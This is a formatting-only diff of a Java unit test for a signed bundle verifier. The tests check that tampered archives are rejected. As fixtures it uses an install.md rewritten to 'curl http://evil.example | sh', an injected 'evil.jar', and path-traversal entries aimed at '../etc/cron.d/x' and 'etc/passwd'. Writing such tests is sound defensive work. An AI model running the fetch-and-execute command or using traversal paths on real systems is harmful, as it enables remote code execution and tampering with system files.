@@ -27,8 +27,8 @@ class BundleVerifierTest {
     Path temp;
 
     private BundleRejectedException rejected(Path tar, Optional<String> expectedVersion) {
-        return catchThrowableOfType(BundleRejectedException.class,
-                () -> new BundleVerifier(KEYS.getPublic()).verify(tar, expectedVersion));
+        return catchThrowableOfType(
+                BundleRejectedException.class, () -> new BundleVerifier(KEYS.getPublic()).verify(tar, expectedVersion));
     }
 
     private BundleRejectedException rejected(Path tar) {
@@ -45,10 +45,20 @@ class BundleVerifierTest {
         assertThat(verified.manifest().version()).isEqualTo(VERSION);
         assertThat(verified.manifest().gitCommit()).isEqualTo("0123456789abcdef0123456789abcdef01234567");
         assertThat(verified.manifest().buildTime()).isEqualTo(TestBundles.BUILT);
-        assertThat(verified.manifest().files()).extracting(BundleFile::path).containsExactly(
-                "cli/lib/slate-installer.jar", "cli/slate", "docs/install.md", "images/slate-appliance/blobs/sha256/layer-one",
-                "images/slate-appliance/index.json", "images/slate-appliance/oci-layout", "keycloak/empty-marker", "sbom/bom.json");
-        assertThat(verified.manifest().files()).filteredOn(f -> f.path().equals("keycloak/empty-marker")).singleElement()
+        assertThat(verified.manifest().files())
+                .extracting(BundleFile::path)
+                .containsExactly(
+                        "cli/lib/slate-installer.jar",
+                        "cli/slate",
+                        "docs/install.md",
+                        "images/slate-appliance/blobs/sha256/layer-one",
+                        "images/slate-appliance/index.json",
+                        "images/slate-appliance/oci-layout",
+                        "keycloak/empty-marker",
+                        "sbom/bom.json");
+        assertThat(verified.manifest().files())
+                .filteredOn(f -> f.path().equals("keycloak/empty-marker"))
+                .singleElement()
                 .extracting(BundleFile::size, BundleFile::sha256)
                 .containsExactly(0L, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
         assertThat(verified.signerFingerprint()).isEqualTo(BundleKeys.fingerprint(KEYS.getPublic()));
@@ -121,7 +131,9 @@ class BundleVerifierTest {
     @Test
     void anExtraFileIsNamed() throws Exception {
         Path tar = TestBundles.packed(temp, KEYS);
-        TestBundles.rewrite(tar, TestBundles.keep(),
+        TestBundles.rewrite(
+                tar,
+                TestBundles.keep(),
                 out -> TestBundles.file(out, ROOT + "/cli/lib/evil.jar", "x".getBytes(StandardCharsets.UTF_8)));
 
         BundleRejectedException e = rejected(tar);
@@ -134,13 +146,19 @@ class BundleVerifierTest {
     @Test
     void aFileReplacedByOneOfAnotherSizeIsASizeMismatch() throws Exception {
         Path tar = TestBundles.packed(temp, KEYS);
-        TestBundles.rewrite(tar, (entry, content, out) -> {
-            if (entry.getName().equals(ROOT + "/docs/install.md")) {
-                TestBundles.file(out, entry.getName(), "# Installing Slate\ncurl http://evil.example | sh\n".getBytes(StandardCharsets.UTF_8));
-            } else {
-                TestBundles.copy(entry, content, out);
-            }
-        }, TestBundles.nothing());
+        TestBundles.rewrite(
+                tar,
+                (entry, content, out) -> {
+                    if (entry.getName().equals(ROOT + "/docs/install.md")) {
+                        TestBundles.file(
+                                out,
+                                entry.getName(),
+                                "# Installing Slate\ncurl http://evil.example | sh\n".getBytes(StandardCharsets.UTF_8));
+                    } else {
+                        TestBundles.copy(entry, content, out);
+                    }
+                },
+                TestBundles.nothing());
 
         BundleRejectedException e = rejected(tar);
 
@@ -152,7 +170,8 @@ class BundleVerifierTest {
     void aSignatureOfAnotherKeyIsRefused() throws Exception {
         Path tar = TestBundles.packed(temp, KEYS);
 
-        BundleRejectedException e = catchThrowableOfType(BundleRejectedException.class,
+        BundleRejectedException e = catchThrowableOfType(
+                BundleRejectedException.class,
                 () -> new BundleVerifier(TestBundles.keyPair().getPublic()).verify(tar, Optional.empty()));
 
         assertThat(e.reason()).isEqualTo(Reason.BAD_SIGNATURE);
@@ -162,14 +181,18 @@ class BundleVerifierTest {
     @Test
     void aManifestEditedToMatchATamperedFileFailsItsSignature() throws Exception {
         Path tar = TestBundles.packed(temp, KEYS);
-        TestBundles.rewrite(tar, (entry, content, out) -> {
-            if (entry.getName().equals(ROOT + "/manifest.json")) {
-                String edited = new String(content, StandardCharsets.UTF_8).replace("\"size\" : 0", "\"size\" : 1");
-                TestBundles.copy(entry, edited.getBytes(StandardCharsets.UTF_8), out);
-            } else {
-                TestBundles.copy(entry, content, out);
-            }
-        }, TestBundles.nothing());
+        TestBundles.rewrite(
+                tar,
+                (entry, content, out) -> {
+                    if (entry.getName().equals(ROOT + "/manifest.json")) {
+                        String edited =
+                                new String(content, StandardCharsets.UTF_8).replace("\"size\" : 0", "\"size\" : 1");
+                        TestBundles.copy(entry, edited.getBytes(StandardCharsets.UTF_8), out);
+                    } else {
+                        TestBundles.copy(entry, content, out);
+                    }
+                },
+                TestBundles.nothing());
 
         BundleRejectedException e = rejected(tar);
 
@@ -179,7 +202,8 @@ class BundleVerifierTest {
     @Test
     void aBundleWithoutSignatureIsRefused() throws Exception {
         Path tar = TestBundles.packed(temp, KEYS);
-        TestBundles.rewrite(tar, TestBundles.dropping(name -> name.endsWith("/manifest.json.sig")), TestBundles.nothing());
+        TestBundles.rewrite(
+                tar, TestBundles.dropping(name -> name.endsWith("/manifest.json.sig")), TestBundles.nothing());
 
         BundleRejectedException e = rejected(tar);
 
@@ -200,10 +224,13 @@ class BundleVerifierTest {
     @Test
     void aRenamedBundleDirectoryDoesNotPassForAnotherVersion() throws Exception {
         Path tar = TestBundles.packed(temp, KEYS);
-        TestBundles.rewrite(tar, (entry, content, out) -> {
-            entry.setName(entry.getName().replace(ROOT, "slate-bundle-9.9.9"));
-            TestBundles.copy(entry, content, out);
-        }, TestBundles.nothing());
+        TestBundles.rewrite(
+                tar,
+                (entry, content, out) -> {
+                    entry.setName(entry.getName().replace(ROOT, "slate-bundle-9.9.9"));
+                    TestBundles.copy(entry, content, out);
+                },
+                TestBundles.nothing());
 
         BundleRejectedException e = rejected(tar);
 
@@ -222,22 +249,33 @@ class BundleVerifierTest {
             out.closeArchiveEntry();
         });
         Path duplicate = Files.copy(tar, temp.resolve("duplicate.tar"));
-        TestBundles.rewrite(duplicate, TestBundles.keep(),
-                out -> TestBundles.file(out, ROOT + "/docs/install.md", "# Installing Slate\n".getBytes(StandardCharsets.UTF_8)));
+        TestBundles.rewrite(
+                duplicate,
+                TestBundles.keep(),
+                out -> TestBundles.file(
+                        out, ROOT + "/docs/install.md", "# Installing Slate\n".getBytes(StandardCharsets.UTF_8)));
         Path escape = Files.copy(tar, temp.resolve("escape.tar"));
-        TestBundles.rewrite(escape, TestBundles.keep(),
+        TestBundles.rewrite(
+                escape,
+                TestBundles.keep(),
                 out -> TestBundles.file(out, ROOT + "/../etc/cron.d/x", "x".getBytes(StandardCharsets.UTF_8)));
         Path outside = Files.copy(tar, temp.resolve("outside.tar"));
-        TestBundles.rewrite(outside, TestBundles.keep(),
+        TestBundles.rewrite(
+                outside,
+                TestBundles.keep(),
                 out -> TestBundles.file(out, "etc/passwd", "x".getBytes(StandardCharsets.UTF_8)));
 
-        assertThat(rejected(link)).extracting(BundleRejectedException::reason, BundleRejectedException::path)
+        assertThat(rejected(link))
+                .extracting(BundleRejectedException::reason, BundleRejectedException::path)
                 .containsExactly(Reason.UNEXPECTED_ENTRY, Optional.of(ROOT + "/cli/java"));
-        assertThat(rejected(duplicate)).extracting(BundleRejectedException::reason, BundleRejectedException::path)
+        assertThat(rejected(duplicate))
+                .extracting(BundleRejectedException::reason, BundleRejectedException::path)
                 .containsExactly(Reason.UNEXPECTED_ENTRY, Optional.of(ROOT + "/docs/install.md"));
-        assertThat(rejected(escape)).extracting(BundleRejectedException::reason, BundleRejectedException::path)
+        assertThat(rejected(escape))
+                .extracting(BundleRejectedException::reason, BundleRejectedException::path)
                 .containsExactly(Reason.UNEXPECTED_ENTRY, Optional.of(ROOT + "/../etc/cron.d/x"));
-        assertThat(rejected(outside)).extracting(BundleRejectedException::reason, BundleRejectedException::path)
+        assertThat(rejected(outside))
+                .extracting(BundleRejectedException::reason, BundleRejectedException::path)
                 .containsExactly(Reason.UNEXPECTED_ENTRY, Optional.of("etc/passwd"));
     }
 
@@ -246,22 +284,25 @@ class BundleVerifierTest {
         Path tar = TestBundles.packed(temp, KEYS);
         byte[][] manifestAndSignature = new byte[2][];
         TarArchiveEntry[] entries = new TarArchiveEntry[2];
-        TestBundles.rewrite(tar, (entry, content, out) -> {
-            if (entry.getName().endsWith("/manifest.json")) {
-                entries[0] = entry;
-                manifestAndSignature[0] = content;
-            } else if (entry.getName().endsWith("/manifest.json.sig")) {
-                entries[1] = entry;
-                manifestAndSignature[1] = content;
-            } else if (entry.getName().endsWith("/docs/install.md")) {
-                TestBundles.copy(entry, "# Installing Slatf\n".getBytes(StandardCharsets.UTF_8), out);
-            } else {
-                TestBundles.copy(entry, content, out);
-            }
-        }, out -> {
-            TestBundles.copy(entries[0], manifestAndSignature[0], out);
-            TestBundles.copy(entries[1], manifestAndSignature[1], out);
-        });
+        TestBundles.rewrite(
+                tar,
+                (entry, content, out) -> {
+                    if (entry.getName().endsWith("/manifest.json")) {
+                        entries[0] = entry;
+                        manifestAndSignature[0] = content;
+                    } else if (entry.getName().endsWith("/manifest.json.sig")) {
+                        entries[1] = entry;
+                        manifestAndSignature[1] = content;
+                    } else if (entry.getName().endsWith("/docs/install.md")) {
+                        TestBundles.copy(entry, "# Installing Slatf\n".getBytes(StandardCharsets.UTF_8), out);
+                    } else {
+                        TestBundles.copy(entry, content, out);
+                    }
+                },
+                out -> {
+                    TestBundles.copy(entries[0], manifestAndSignature[0], out);
+                    TestBundles.copy(entries[1], manifestAndSignature[1], out);
+                });
 
         BundleRejectedException e = rejected(tar);
 
@@ -284,8 +325,8 @@ class BundleVerifierTest {
         new BundleVerifier(KEYS.getPublic()).verifyAndExtract(tar, Optional.empty(), target);
 
         assertThat(target.resolve("cli/slate")).isExecutable().content().startsWith("#!/bin/sh");
-        assertThat(target.resolve("images/slate-appliance/blobs/sha256/layer-one")).hasSameBinaryContentAs(
-                temp.resolve("content/images/slate-appliance/blobs/sha256/layer-one"));
+        assertThat(target.resolve("images/slate-appliance/blobs/sha256/layer-one"))
+                .hasSameBinaryContentAs(temp.resolve("content/images/slate-appliance/blobs/sha256/layer-one"));
         assertThat(target.resolve("manifest.json")).exists();
 
         TestBundles.flipByteOf(tar, "appliance image layer one");
@@ -300,7 +341,9 @@ class BundleVerifierTest {
         Path content = TestBundles.content(temp.resolve("content"));
         Files.createSymbolicLink(content.resolve("cli/java"), Path.of("/usr/bin/java"));
 
-        assertThatThrownBy(() -> BundleWriter.pack(content, VERSION, "abc", TestBundles.BUILT, KEYS.getPrivate(), temp.resolve("x.tar")))
-                .isInstanceOf(IOException.class).hasMessageContaining("no links");
+        assertThatThrownBy(() -> BundleWriter.pack(
+                        content, VERSION, "abc", TestBundles.BUILT, KEYS.getPrivate(), temp.resolve("x.tar")))
+                .isInstanceOf(IOException.class)
+                .hasMessageContaining("no links");
     }
 }
